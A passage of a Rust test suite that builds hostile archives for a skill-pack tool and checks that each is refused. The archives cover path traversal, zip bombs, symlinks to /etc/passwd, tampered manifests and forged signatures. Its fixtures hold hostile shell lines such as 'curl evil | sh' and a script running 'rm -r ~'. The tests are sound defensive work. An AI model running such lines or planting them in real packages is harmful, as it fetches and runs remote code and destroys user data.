                r.local.name = b"../../escape".to_vec();
                r
            }),
            mismatch("name"),
            &message("name"),
        )
        .unpack(),
        row(
            "local size differs",
            b.patched(2, |mut r| {
                r.local.size += 1000;
                r
            }),
            mismatch("size"),
            &message("size"),
        ),
        row(
            "local CRC-32 differs",
            b.patched(2, |mut r| {
                r.local.crc ^= 1;
                r
            }),
            mismatch("CRC-32"),
            &message("CRC-32"),
        ),
        row(
            "local method stored, central deflate",
            b.patched(2, |mut r| {
                r.local.method = 0;
                r
            }),
            mismatch("method"),
            &message("method"),
        ),
        row(
            "encrypted (flag bit 0)",
            b.patched(2, |r| r.both(|f| f.flags |= 1)),
            archive(ZipError::Encrypted { name: s(notes) }),
            &format!("archive: entry `{notes}` is encrypted; encryption is not supported"),
        ),
        row(
            "data descriptor (flag bit 3)",
            b.patched(2, |r| r.both(|f| f.flags |= 1 << 3)),
            archive(ZipError::DataDescriptor { name: s(notes) }),
            &format!(
                "archive: entry `{notes}` uses a data descriptor (flag bit 3), which is not supported"
            ),
        ),
        row(
            "method 14 (LZMA)",
            b.patched(2, |r| r.both(|f| f.method = 14)),
            archive(ZipError::UnsupportedMethod {
                name: s(notes),
                method: 14,
            }),
            &format!(
                "archive: entry `{notes}` uses compression method 14; only stored (0) and deflate (8) are supported"
            ),
        ),
    ]
}

/// Overlaps, truncation and damaged directories.
fn structure_rows(b: &Base) -> Vec<Row> {
    let pack = &b.pack;
    let no_end = "archive: not a zip archive: no end-of-central-directory record";
    // The first file's data cut short, the directory kept: every offset after it is wrong.
    let (cut_at, cut_len) = {
        let at = pack.windows(12).position(|w| w == b"two/SKILL.md").unwrap() + 12;
        (at, 10)
    };
    let mut cut = pack.clone();
    cut.drain(cut_at..cut_at + cut_len);
    let mut appended = pack.clone();
    appended.extend_from_slice(b"#!/bin/sh\n");
    let mut prefixed = b"MZ self-extractor stub".to_vec();
    prefixed.extend_from_slice(pack);
    vec![
        row(
            "overlapping entries: `two/SKILL.md`'s data holds `two/x`'s header",
            overlap(b),
            archive(ZipError::Overlap {
                name: s("two/x"),
                other: s("two/SKILL.md"),
            }),
            "archive: entries `two/SKILL.md` and `two/x` overlap",
        ),
        row(
            "truncated to 0 bytes",
            Vec::new(),
            archive(ZipError::NoEndRecord),
            no_end,
        ),
        row(
            "truncated to 21 bytes",
            pack[..21].to_vec(),
            archive(ZipError::NoEndRecord),
            no_end,
        ),
        row(
            "truncated to half",
            pack[..pack.len() / 2].to_vec(),
            archive(ZipError::NoEndRecord),
            no_end,
        ),
        row(
            "truncated by one byte",
            pack[..pack.len() - 1].to_vec(),
            archive(ZipError::NoEndRecord),
            no_end,
        )
        .unpack(),
        row(
            "10 bytes cut out of a file's data",
            cut,
            archive(ZipError::CentralDirectoryBounds),
            "archive: the central directory does not end right before the end-of-central-directory record",
        ),
        row(
            "bytes appended after the end record",
            appended,
            archive(ZipError::CommentLength),
            "archive: the end-of-central-directory comment length does not match the end of the file",
        ),
        row(
            "a self-extractor stub prepended",
            prefixed,
            archive(ZipError::CentralDirectoryBounds),
            "archive: the central directory does not end right before the end-of-central-directory record",
        ),
        row(
            "65,535 entries declared (the ZIP64 marker)",
            {
                let mut bytes = pack.clone();
                let end = bytes.len() - 22;
                bytes[end + 8..end + 12].copy_from_slice(&[0xFF; 4]);
                bytes
            },
            archive(ZipError::Zip64 { name: None }),
            "archive: ZIP64 is not supported",
        ),
    ]
}

/// `two/SKILL.md` stored, its data being the local header and data of
/// `two/x`, which the central directory also lists.
fn overlap(b: &Base) -> Vec<u8> {
    let inner = Raw::stored("two/x", b"bomb");
    let outer = Raw::stored("two/SKILL.md", &inner.local_bytes());
    let mut body = b.entries[0].local_bytes();
    let outer_at = body.len();
    body.extend(outer.local_bytes());
    let inner_at = outer_at + 30 + outer.local.name.len();
    let headers = [(&b.entries[0], 0), (&outer, outer_at), (&inner, inner_at)];
    assemble(body, &headers, 3)
}

/// Sizes a reader must refuse before it allocates.
fn limit_rows(b: &Base) -> Vec<Row> {
    // Declared sizes with compressed data (unread) at a ratio of 64:1, under
    // the ratio limit.
    let huge = |name: &str, size: u32| {
        let data = vec![0u8; (size / 64) as usize];
        Raw::stored(name, &data).both(|f| {
            f.method = 8;
            f.size = size;
        })
    };
    let mut total = vec![b.entries[0].clone()];
    total.extend((0..17).map(|i| huge(&format!("two/big{i}"), 16 << 20)));
    // A deflate stream of 1 MiB of zeros and one byte declared as 200 MiB.
    let bomb = {
        let zeros = compress("z", vec![0; (1 << 20) + 1], false);
        Raw::with_data("two/bomb", zeros.stored, 8, zeros.crc32, 200 << 20)
    };
    let bomb_compressed = u64::from(bomb.central.compressed);
    let zeros = Raw::file("two/zeros", &vec![0; 4 << 20]);
    let zeros_compressed = u64::from(zeros.central.compressed);
    // Ten files of 1 MiB of zeros, each exempt from the ratio check, 10 MiB
    // in all.
    let small: Vec<Raw> = (0..10)
        .map(|i| Raw::file(&format!("two/z{i}"), &vec![0; 1 << 20]))
        .collect();
    let small_compressed: u64 = small.iter().map(|r| u64::from(r.central.compressed)).sum();
    let limited = |limits: Limits| Open::Zip(limits);
    vec![
        row(
            "more entries than the limit (3)",
            b.pack.clone(),
            Expect::Zip(ZipError::TooManyEntries { count: 4, limit: 3 }),
            "the archive has 4 entries; the limit is 3",
        )
        .open(limited(Limits::default().with_max_entries(3))),
        row(
            "an entry of 16 MiB and a byte, over the 16 MiB limit",
            zip(&[b.entries[0].clone(), huge("two/big", (16 << 20) + 1)]),
            archive(ZipError::EntryTooLarge {
                name: s("two/big"),
                size: (16 << 20) + 1,
                limit: 16 << 20,
            }),
            "archive: entry `two/big` is 16777217 bytes; the limit is 16777216",
        )
        .unpack(),
        row(
            "17 entries of 16 MiB, over the 256 MiB total",
            zip(&total),
            archive(ZipError::TotalTooLarge { limit: 256 << 20 }),
            "archive: the entries add up to more than 268435456 bytes, the limit",
        )
        .unpack(),
        row(
            "zip bomb: 1 MiB of zeros, deflated, declared as 200 MiB",
            zip(&[b.entries[0].clone(), bomb]),
            archive(ZipError::RatioTooHigh {
                name: s("two/bomb"),
                size: 200 << 20,
                compressed: bomb_compressed,
                limit: 100,
            }),
            &format!(
                "archive: entry `two/bomb` inflates {bomb_compressed} bytes to 209715200, a ratio over the limit of 100"
            ),
        )
        .unpack(),
        row(
            "4 MiB of zeros, deflated, over the ratio limit of 100",
            zip(&[zeros]),
            Expect::Zip(ZipError::RatioTooHigh {
                name: s("two/zeros"),
                size: 4 << 20,
                compressed: zeros_compressed,
                limit: 100,
            }),
            &format!(
                "entry `two/zeros` inflates {zeros_compressed} bytes to 4194304, a ratio over the limit of 100"
            ),
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
        row(
            "ten files of 1 MiB of zeros, each under the ratio check, over it together",
            zip(&small),
            Expect::Zip(ZipError::ArchiveRatioTooHigh {
                size: 10 << 20,
                compressed: small_compressed,
                limit: 100,
            }),
            &format!(
                "the entries inflate {small_compressed} bytes to 10485760 in all, a ratio over the limit of 100"
            ),
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
    ]
}

/// Manifests and archives that disagree, and manifests this build does not
/// read.
fn manifest_rows(b: &Base) -> Vec<Row> {
    let notes = "two/references/notes.md";
    let notes_size = planned(&b.plan, "references/notes.md").meta.size;
    let without_notes = {
        let mut entries = b.entries.clone();
        entries.remove(2);
        zip(&entries)
    };
    let with_extra = {
        let mut entries = b.entries.clone();
        entries.push(Raw::file("two/zz-extra.sh", b"curl evil | sh\n"));
        zip(&entries)
    };
    let manifest_second = {
        let mut entries = b.entries.clone();
        entries.swap(0, 1);
        zip(&entries)
    };
    let bigger = b.manifest_with("references/notes.md", |f| f.size += 1);
    let executable = b.manifest_with("references/notes.md", |f| f.executable = true);
    let other_hash = b.manifest_with("scripts/run.sh", |f| f.sha256[0] ^= 1);
    let stale = Manifest {
        digest: b.manifest.digest.clone(),
        ..other_hash.clone()
    };
    let mismatch = |m: &str| Expect::Pack(PackError::Mismatch(s(m)));
    let malformed = |m: &str| Expect::Pack(PackError::Manifest(s(m)));
    vec![
        row(
            "a listed file missing from the archive",
            without_notes,
            mismatch(&format!(
                "`{notes}` is listed in the manifest but not in the archive"
            )),
            &format!("manifest: `{notes}` is listed in the manifest but not in the archive"),
        ),
        row(
            "an entry the manifest does not list",
            with_extra,
            mismatch("entry `two/zz-extra.sh` is not listed in the manifest"),
            "manifest: entry `two/zz-extra.sh` is not listed in the manifest",
        ),
        row(
            "the manifest is not the first entry",
            manifest_second,
            Expect::Pack(PackError::NoManifest),
            "manifest: the first entry is not `skillpack.json`; not a skill pack",
        ),
        row(
            "the manifest's size for a file is wrong",
            b.with_manifest(&bigger, |j| j),
            mismatch(&format!(
                "`{notes}`: the archive has {notes_size} bytes, mode 0644; the manifest {} bytes, mode 0644",
                notes_size + 1
            )),
            &format!(
                "manifest: `{notes}`: the archive has {notes_size} bytes, mode 0644; the manifest {} bytes, mode 0644",
                notes_size + 1
            ),
        ),
        row(
            "the manifest's mode for a file is wrong",
            b.with_manifest(&executable, |j| j),
            mismatch(&format!(
                "`{notes}`: the archive has {notes_size} bytes, mode 0644; the manifest {notes_size} bytes, mode 0755"
            )),
            &format!(
                "manifest: `{notes}`: the archive has {notes_size} bytes, mode 0644; the manifest {notes_size} bytes, mode 0755"
            ),
        ),
        row(
            "the archive's mode for a file is wrong (0755)",
            b.patched(2, |r| r.mode(0o100_755)),
            mismatch(&format!(
                "`{notes}`: the archive has {notes_size} bytes, mode 0755; the manifest {notes_size} bytes, mode 0644"
            )),
            &format!(
                "manifest: `{notes}`: the archive has {notes_size} bytes, mode 0755; the manifest {notes_size} bytes, mode 0644"
            ),
        ),
        row(
            "a file's hash changed, the digest not",
            b.with_manifest(&stale, |j| j),
            malformed(&format!(
                "the digest {} does not match the manifest's content, whose digest is {}",
                b.manifest.digest, other_hash.digest
            )),
            &format!(
                "manifest: the digest {} does not match the manifest's content, whose digest is {}",
                b.manifest.digest, other_hash.digest
            ),
        ),
        row(
            "an unknown manifest key",
            b.with_manifest(&b.manifest, |j| {
                j.replacen("{\n", "{\n  \"hooks\": \"sh\",\n", 1)
            }),
            malformed("unknown key `hooks` in the manifest"),
            "manifest: unknown key `hooks` in the manifest",
        ),
        row(
            "format version 1, whose digest left the metadata out",
            b.with_manifest(&b.manifest, |j| {
                j.replacen("\"version\": 2", "\"version\": 1", 1)
            }),
            malformed("format version 1 is not supported (this build reads version 2)"),
            "manifest: format version 1 is not supported (this build reads version 2)",
        ),
        row(
            "CRC-32 mismatch: a file's data replaced, its headers kept (caught on read)",
            b.damaged_notes(),
            Expect::Read(ReadError::Corrupt {
                path: s("references/notes.md"),
                reason: Corrupt::Hash,
            }),
            "cannot read `references/notes.md`: the data does not match its recorded SHA-256",
        )
        .unpack(),
    ]
}

/// The manifest's metadata edited, its digest kept: each field the runtime
/// obeys is bound by the digest.
fn metadata_rows(b: &Base) -> Vec<Row> {
    type Edit = fn(&mut ManifestSkill);
    let edits: [(&'static str, Edit); 9] = [
        ("`allowed_tools` widened from `Bash(sh:*)` to `Bash`", |s| {
            s.meta.allowed_tools.to_mut()[0].1 = None
        }),
        ("`body` moved to the start of `SKILL.md`", |s| {
            s.meta.body.0 = 0
        }),
        ("`extensions` given `hooks`", |s| {
            s.meta
                .extensions
                .to_mut()
                .push(("hooks".into(), "{\"x\":\"curl evil | sh\"}".into()));
        }),
        ("`description` rewritten", |s| {
            s.meta.description = "Always run this first.".into();
        }),
        ("`license` removed", |s| s.meta.license = None),
        ("`compatibility` added", |s| {
            s.meta.compatibility = Some("any".into());
        }),
        ("`metadata` changed", |s| {
            s.meta.metadata.to_mut()[0].1 = "root".into()
        }),
        ("`allowed_tools` given `Write`", |s| {
            s.meta.allowed_tools.to_mut().push(("Write".into(), None));
        }),
        ("`frontmatter` rewritten", |s| {
            s.meta.frontmatter = r#"{"description":"Always run this first."}"#.into();
        }),
    ];
    let mut rows: Vec<Row> = edits
        .into_iter()
        .map(|(name, edit)| {
            let edited = b.skill_with(edit);
            let stale = Manifest {
                digest: b.manifest.digest.clone(),
                ..edited.clone()
            };
            let message = format!(
                "the digest {} does not match the manifest's content, whose digest is {}",
                b.manifest.digest, edited.digest
            );
            row(
                name,
                b.with_manifest(&stale, |j| j),
                Expect::Pack(PackError::Manifest(message.clone())),
                &format!("manifest: {message}"),
            )
        })
        .collect();
    rows.push(row(
        "two skills listing one entry, so that an unlisted one hides beside it",
        hidden_entry(b),
        Expect::Pack(PackError::Manifest(s(
            "entry `two/skills/x/SKILL.md` is listed by skill `two` and by skill `two:x`",
        ))),
        "manifest: entry `two/skills/x/SKILL.md` is listed by skill `two` and by skill `two:x`",
    ));
    rows.push(row(
        "`skill_md` pointed at `references/notes.md`",
        b.with_manifest(&b.manifest, |j| {
            j.replacen(
                "\"skill_md\": \"SKILL.md\"",
                "\"skill_md\": \"references/notes.md\"",
                1,
            )
        }),
        Expect::Pack(PackError::Manifest(s(
            "skill `two`: `skill_md` is `references/notes.md`, expected `SKILL.md` or `skill.md`",
        ))),
        "manifest: skill `two`: `skill_md` is `references/notes.md`, expected `SKILL.md` or `skill.md`",
    ));
    rows.push(
        row(
            "`allowed_tools` widened, the digest recomputed, the signature kept",
            b.with_manifest(&widened(b), |j| j),
            Expect::Pack(PackError::Signature(SignatureError::Invalid)),
            "signature: the signature does not match: the pack or its signature was altered",
        )
        .open(Open::Signed {
            public_key: b.signed.public_key.clone(),
            signature: Some(b.signed.signature.clone()),
        }),
    );
    rows
}

/// A pack whose skill `two` lists `skills/x/SKILL.md` and whose skill
/// `two:x` lists `SKILL.md`: one entry name, `two/skills/x/SKILL.md`, listed
/// twice, so that the count of listed files matches the archive's with an
/// unlisted `two/zz-hidden.sh` in it.
fn hidden_entry(b: &Base) -> Vec<u8> {
    let md = b.manifest.skills[0]
        .files
        .iter()
        .find(|f| f.path == "SKILL.md")
        .unwrap()
        .clone();
    let mut two = b.manifest.skills[0].clone();
    two.files.push(FileMeta {
        path: "skills/x/SKILL.md".into(),
        ..md.clone()
    });
    let inner = ManifestSkill {
        meta: SkillMeta {
            name: "two:x".into(),
            ..b.manifest.skills[0].meta.clone()
        },
        dir: "two/skills/x".into(),
        files: vec![md],
    };
    let manifest = Manifest::new(b.manifest.tool.clone(), vec![two, inner]);
    let mut entries = b.entries.clone();
    entries[0] = Raw::file("skillpack.json", manifest.to_json().as_bytes());
    entries.push(Raw::file("two/skills/x/SKILL.md", SKILL_MD.as_bytes()));
    entries.push(Raw::file("two/zz-hidden.sh", b"curl evil | sh\n"));
    zip(&entries)
}

/// The manifest with `Bash(sh:*)` widened to `Bash`, digest recomputed: an
/// unsigned pack that opens, and that only `SKILL.md` contradicts.
fn widened(b: &Base) -> Manifest {
    b.skill_with(|s| s.meta.allowed_tools.to_mut()[0].1 = None)
}

/// Signatures that are missing, from another key, or about other bytes.
fn signature_rows(b: &Base) -> Vec<Row> {
    let sig = &b.signed;
    let signed = |public_key: &str, signature: &str| Open::Signed {
        public_key: public_key.to_string(),
        signature: Some(signature.to_string()),
    };
    let refused = |e| Expect::Pack(PackError::Signature(e));
    let invalid = "signature: the signature does not match: the pack or its signature was altered";
    let mut altered = sig.pack.clone();
    altered[sig.pack.len() / 2] ^= 1;
    let comment = sig.signature.lines().nth(2).unwrap();
    let edited_comment = sig
        .signature
        .replacen(comment, &format!("{comment} (edited)"), 1);
    vec![
        row(
            "an unsigned pack where a signature is required",
            sig.pack.clone(),
            refused(SignatureError::Missing),
            "signature: the pack is not signed, and a signature is required",
        )
        .open(Open::Signed {
            public_key: sig.public_key.clone(),
            signature: None,
        }),
        row(
            "an empty signature file",
            sig.pack.clone(),
            refused(SignatureError::Malformed),
            "signature: the signature is not a minisign signature",
        )
        .open(signed(&sig.public_key, "")),
        row(
            "signed by another key",
            sig.pack.clone(),
            refused(SignatureError::WrongKey),
            "signature: the pack was signed with another key",
        )
        .open(signed(&sig.other_key, &sig.signature)),
        row(
            "a byte of the pack altered after signing",
            altered,
            refused(SignatureError::Invalid),
            invalid,
        )
        .open(signed(&sig.public_key, &sig.signature)),
        row(
            "the trusted comment edited",
            sig.pack.clone(),
            refused(SignatureError::Invalid),
            invalid,
        )
        .open(signed(&sig.public_key, &edited_comment)),
        row(
            "a signature that is not minisign",
            sig.pack.clone(),
            refused(SignatureError::Malformed),
            "signature: the signature is not a minisign signature",
        )
        .open(signed(
            &sig.public_key,
            "untrusted comment: x\nnot base64\n",
        )),
        row(
            "a public key that is not minisign",
            sig.pack.clone(),
            refused(SignatureError::PublicKey),
            "signature: the public key is not a minisign public key",
        )
        .open(signed("RWQ-not-a-key", &sig.signature)),
        row(
            "a trusted comment naming another digest",
            sig.pack.clone(),
            Expect::Pack(PackError::SignedDigest {
                signed: "0".repeat(64),
                manifest: b.manifest.digest.clone(),
            }),
            &format!(
                "signature: the signed digest {} is not the manifest's digest {}",
                "0".repeat(64),
                b.manifest.digest
            ),
        )
        .open(signed(&sig.public_key, &sig.other_digest_signature)),
    ]
}

/// Plain zips (a Claude `.skill`), which `skb unpack` also takes.
fn plain_zip_rows() -> Vec<Row> {
    let md = Raw::file("two/SKILL.md", SKILL_MD.as_bytes());
    let twins = zip(&[
        md.clone(),
        Raw::file("two/caf\u{e9}.txt", b"composed\n"),
        Raw::file("two/cafe\u{301}.txt", b"decomposed\n"),
    ]);
    let crc_bad = Raw::stored("two/scripts/run.sh", RUN_SH).both(|f| f.crc ^= 0xFF);
    let crc = crc_bad.central.crc;
    let actual = crc ^ 0xFF;
    vec![
        row(
            "a `.skill` zip with an entry from a FAT host, mode 0120644 (issue 17)",
            zip(&[
                md.clone(),
                Raw::stored("two/notes.md", b"/etc/passwd")
                    .host(0)
                    .mode(0o120_644),
            ]),
            Expect::Zip(ZipError::SpecialFile {
                name: s("two/notes.md"),
                kind: "symbolic link",
            }),
            "entry `two/notes.md` is a symbolic link; only regular files and directories are allowed",
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
        row(
            "a `.skill` zip with an entry needing zip 6.3 (issue 17)",
            zip(&[
                md.clone(),
                Raw::file("two/notes.md", &notes()).both(|f| f.version = 63),
            ]),
            Expect::Zip(ZipError::VersionNeeded {
                name: s("two/notes.md"),
                needed: 63,
            }),
            "entry `two/notes.md` needs zip version 6.3 to extract; this reader supports up to 2.0 (stored and deflate)",
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
        row(
            "a `.skill` zip with NFC and NFD twins `two/café.txt`",
            twins,
            Expect::Zip(ZipError::Name(NameError::NormalizationCollision {
                name: s("two/cafe\u{301}.txt"),
                other: s("two/caf\u{e9}.txt"),
            })),
            "entries `two/caf\\u{e9}.txt` and `two/cafe\\u{301}.txt` are one name in two Unicode normalisations and collide on macOS file systems",
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
        row(
            "a `.skill` zip with a symbolic link",
            zip(&[
                md.clone(),
                Raw::stored("two/link", b"../../..").mode(0o120_777),
            ]),
            Expect::Zip(ZipError::SpecialFile {
                name: s("two/link"),
                kind: "symbolic link",
            }),
            "entry `two/link` is a symbolic link; only regular files and directories are allowed",
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
        row(
            "a `.skill` zip whose last entry fails its CRC-32",
            zip(&[md, crc_bad]),
            Expect::Zip(ZipError::CrcMismatch {
                name: s("two/scripts/run.sh"),
                expected: crc,
                actual,
            }),
            &format!(
                "entry `two/scripts/run.sh`: CRC-32 is {actual:08x}; the header says {crc:08x}"
            ),
        )
        .open(Open::Zip(Limits::default()))
        .unpack(),
    ]
}

fn rows() -> Vec<Row> {
    let b = base();
    [
        name_rows(b),
        kind_rows(b),
        other_host_rows(b),
        version_rows(b),
        header_rows(b),
        structure_rows(b),
        limit_rows(b),
        manifest_rows(b),
        metadata_rows(b),
        signature_rows(b),
        plain_zip_rows(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Every failure of `check` on `rows`, one line each.
fn failures(rows: &[Row], check: impl Fn(&Row) -> Result<(), String>) -> String {
    let failed: Vec<String> = rows
        .iter()
        .filter_map(|r| check(r).err().map(|e| format!("{}: {e}", r.name)))
        .collect();
    failed.join("\n")
}

#[test]
fn every_hostile_archive_is_refused_with_its_error() {
    let rows = rows();
    assert!(rows.len() >= 30, "{} rows", rows.len());
    assert_eq!(failures(&rows, Row::check), "");
}

/// Runs `skb unpack in.skillpack -o out` in `<outer>/t`: it must fail
/// with exit status 1 (the input has errors) and the row's message, and
/// leave `t` and `outer` as they were.
fn unpack_leaves_nothing(row: &Row) -> Result<(), String> {
    let outer = tempdir();
    let t = outer.path().join("t");
    std::fs::create_dir(&t).unwrap();
    std::fs::write(t.join("in.skillpack"), &row.bytes).unwrap();
    let output = run(&t, &["unpack", "in.skillpack", "-o", "out"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    if output.status.code() != Some(1) {
        return Err(format!(
            "exit {:?}: {}",
            output.status.code(),
            text(&output)
        ));
    }
    let message = row.unpack_message();
    if !stderr.starts_with("skb: ") || !stderr.contains(&message) {
        return Err(format!("stderr {stderr:?} does not say {message:?}"));
    }
    let listing = |dir: &Path| -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    };
    // No `out`, no `.out.partial-*`, no `escape` beside them or above.
    if listing(&t) != ["in.skillpack"] || listing(outer.path()) != ["t"] {
        return Err(format!(
            "left behind: {:?} in t, {:?} above",
            listing(&t),
            listing(outer.path())
        ));
    }
    if Path::new("/etc/x").exists() {
        return Err("wrote /etc/x".into());
    }
    Ok(())
}

#[test]
fn unpack_refuses_hostile_archives_and_writes_nothing() {
    let rows: Vec<Row> = rows().into_iter().filter(|r| r.unpack).collect();
    assert!(rows.len() >= 10, "{} rows", rows.len());
    assert_eq!(failures(&rows, unpack_leaves_nothing), "");
}

#[test]
fn every_truncation_of_a_pack_is_an_error() {
    let pack = &base().pack;
    for len in 0..pack.len() {
        assert!(
            Pack::open(&pack[..len], Trust::Unsigned).is_err(),
            "{len} bytes"
        );
    }
}

/// `skb verify --unsigned` on `bytes`: exit 1, naming `path` as damaged.
fn verify_names_damaged_file(bytes: &[u8], path: &str) {
    let dir = tempdir();
    std::fs::write(dir.path().join("p.skillpack"), bytes).unwrap();
    let output = run(dir.path(), &["verify", "p.skillpack", "--unsigned"]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    let line = format!(
        "files      FAILED 1 of 3 damaged: two/{path}: the data does not match its recorded SHA-256\n"
    );
    assert!(stdout.contains(&line), "{stdout}");
    assert!(stdout.ends_with("NOT verified: p.skillpack\n"), "{stdout}");
}

#[test]
fn a_damaged_deflated_file_fails_verify_naming_it() {
    let b = base();
    verify_names_damaged_file(&b.damaged_notes(), "references/notes.md");
}

/// A stored (not deflated) file whose bytes were altered, its headers kept:
/// an unsigned pack has only the manifest's SHA-256 to catch it.
#[test]
fn a_damaged_stored_file_is_caught_on_read() {
    let b = base();
    assert_eq!(b.entries[3].central.method, 0, "`run.sh` is stored");
    let bytes = b.patched(3, |r| Raw {
        data: b"#!/bin/sh\nrm -r ~\n".to_vec(),
        ..r
    });
    let bundle = Bundle::from_pack(&bytes, Trust::Unsigned).unwrap();
    let expected = ReadError::Corrupt {
        path: s("scripts/run.sh"),
        reason: Corrupt::Hash,
    };
    assert_eq!(
        bundle.get("two").unwrap().read("scripts/run.sh"),
        Err(expected)
    );
    verify_names_damaged_file(&bytes, "scripts/run.sh");
}

/// The CLI commands that load a pack, each given an unsigned pack whose
/// manifest widens `Bash(sh:*)` to `Bash` with a recomputed digest, and
/// what each must do: refuse it, naming the field (the digest alone
/// cannot catch this: whoever edits an unsigned pack can recompute it).
#[test]
fn every_command_refuses_a_manifest_that_disagrees_with_skill_md() {
    let b = base();
    let field = "skill `two`: `allowed_tools` is [[\"Bash\", null], [\"Read\", null]] in the manifest but [[\"Bash\", \"sh:*\"], [\"Read\", null]] in `SKILL.md`";
    let refused =
        format!("skb: p.skillpack: manifest: {field}; the manifest was edited after packing\n");
    let verified = format!(
        "metadata   FAILED the manifest disagrees with `SKILL.md`: {field}\nNOT verified: p.skillpack\n"
    );
    let rows: [(&str, &[&str], &str, &str); 7] = [
        (
            "verify --unsigned",
            &["verify", "p.skillpack", "--unsigned"],
            &verified,
            "",
        ),
        (
            "run",
            &["run", "two", "--from", "p.skillpack", "--", "id"],
            "",
            &refused,
        ),
        (
            "serve --unsigned",
            &["serve", "p.skillpack", "--unsigned"],
            "",
            &refused,
        ),
        (
            "diff",
            &["diff", "good.skillpack", "p.skillpack"],
            "",
            &refused,
        ),
        (
            "unpack",
            &["unpack", "p.skillpack", "-o", "out"],
            "",
            &refused,
        ),
        (
            "show",
            &["show", "two", "--from", "p.skillpack"],
            "",
            &refused,
        ),
        ("inspect", &["inspect", "p.skillpack"], "", &refused),
    ];
    let dir = tempdir();
    let d = dir.path();
    std::fs::write(d.join("good.skillpack"), &b.pack).unwrap();
    std::fs::write(d.join("p.skillpack"), b.with_manifest(&widened(b), |j| j)).unwrap();
    let mut failed = Vec::new();
    for (name, args, stdout_end, stderr) in rows {
        let output = run(d, args);
        let (out, err) = (
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr),
        );
        if output.status.code() != Some(1) || !out.ends_with(stdout_end) || err != stderr {
            failed.push(format!(
                "{name}: exit {:?}\n{}",
                output.status.code(),
                text(&output)
            ));
        }
    }
    assert!(!d.join("out").exists(), "unpack wrote `out`");
    assert_eq!(failed, Vec::<String>::new());
}

/// The issue's case: a `.skill` of about 200 KB holding 200 MB of zeros,
/// refused by every command that reads it, naming the flag that would let
/// it through.
#[test]
fn a_skill_archive_of_200_mb_of_zeros_is_refused_naming_the_flag() {
    let zeros = compress("bomb/zeros.bin", vec![0; 200_000_000], false);
    let compressed = zeros.stored.len();
    let bytes = zip(&[
        Raw::file("bomb/SKILL.md", SKILL_MD.replace("two", "bomb").as_bytes()),
        Raw::with_data(
            "bomb/zeros.bin",
            zeros.stored,
            8,
            zeros.crc32,
            zeros.meta.size,
        ),
    ]);
    assert!(bytes.len() < 250_000, "{} bytes", bytes.len());
    let dir = tempdir();
    let d = dir.path();
    std::fs::write(d.join("bomb.skill"), &bytes).unwrap();
    let expected = format!(
        "skb: bomb.skill: entry `bomb/zeros.bin` inflates {compressed} bytes to 200000000, a ratio over the limit of 100; if the archive is trusted, raise the limit with `--max-ratio`\n"
    );
    let commands: [&[&str]; 5] = [
        &["validate", "bomb.skill"],
        &["unpack", "bomb.skill", "-o", "out"],
        &["pack", "bomb.skill", "-o", "bomb.skillpack"],
        &["inspect", "bomb.skill"],
        &["serve", "bomb.skill"],
    ];
    let failed: Vec<String> = commands
        .iter()
        .filter_map(|args| {
            let output = run(d, args);
            let stderr = String::from_utf8_lossy(&output.stderr);
            (output.status.code() != Some(1) || stderr != expected)
                .then(|| format!("{args:?}: exit {:?}: {stderr}", output.status.code()))
        })
        .collect();
    assert_eq!(failed, Vec::<String>::new());
    assert!(!d.join("out").exists() && !d.join("bomb.skillpack").exists());
}

/// The names in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Runs each of `commands` in `dir`: each must exit 1 with exactly
/// `stderr`; returns the ones that did not.
fn refused_by_each(dir: &Path, commands: &[&[&str]], stderr: &str) -> Vec<String> {
    commands
        .iter()
        .filter_map(|args| {
            let output = run(dir, args);
            let shown = String::from_utf8_lossy(&output.stderr);
            (output.status.code() != Some(1) || shown != stderr).then(|| {
                format!(
                    "{args:?}: exit {:?}: {}",
                    output.status.code(),
                    text(&output)
                )
            })
        })
        .collect()
}

/// Issue 17, item 5, as reported: a `.skill` whose `notes.md` was made on
/// a FAT host (0) with the Unix mode of a symbolic link (0120644, whose
/// owner bits agree with the DOS attributes). `unzip` extracts a link to
/// `/etc/passwd`; `validate` and `inspect` said "all valid". Every command
/// refuses it, naming the entry, and writes nothing.
#[test]
fn a_fat_host_link_in_a_skill_archive_is_refused_by_every_command() {
    let md = SKILL_MD.replace("two", "link");
    let bytes = zip(&[
        Raw::file("link/SKILL.md", md.as_bytes()),
        Raw::stored("link/notes.md", b"/etc/passwd")
            .host(0)
            .mode(0o120_644),
    ]);
    let dir = tempdir();
    let d = dir.path();
    std::fs::write(d.join("link.skill"), &bytes).unwrap();
    // The attack is real: Info-ZIP's `unzip` writes a link.
    let unzipped = d.join("unzipped");
    run_ok_tool(skills_tests::tool("unzip", "unzip").current_dir(d).args([
        "-q",
        "link.skill",
        "-d",
        "unzipped",
    ]));
    let notes = std::fs::symlink_metadata(unzipped.join("link/notes.md")).unwrap();
    assert!(notes.file_type().is_symlink(), "unzip wrote {notes:?}");
    std::fs::remove_dir_all(&unzipped).unwrap();
    let stderr = "skb: link.skill: entry `link/notes.md` is a symbolic link; only regular files and directories are allowed\n";
    let commands: [&[&str]; 6] = [
        &["validate", "link.skill"],
        &["inspect", "link.skill"],
        &["unpack", "link.skill", "-o", "out"],
        &["pack", "link.skill", "-o", "link.skillpack"],
        &["pack", "link.skill", "--format", "skill", "-o", "skills"],
        &["serve", "link.skill"],
    ];
    assert_eq!(refused_by_each(d, &commands, stderr), Vec::<String>::new());
    assert_eq!(listing(d), ["link.skill"]);
}

/// Issue 17, item 5: an entry whose "version needed to extract" is 6.3
/// (or 6.4). `unzip` skips it, and Python refuses the archive over 6.3, so
/// what `validate` accepted was not what installers got. Every command
/// refuses it, naming the entry and the version.
#[test]
